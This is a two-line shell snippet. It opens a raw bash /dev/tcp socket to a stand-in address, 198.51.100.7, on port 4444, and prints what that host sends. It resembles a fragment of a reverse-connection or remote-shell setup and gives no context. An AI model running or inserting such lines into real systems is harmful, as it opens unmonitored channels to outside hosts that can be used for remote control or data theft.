exec 3<>/dev/tcp/198.51.100.7/4444
cat <&3
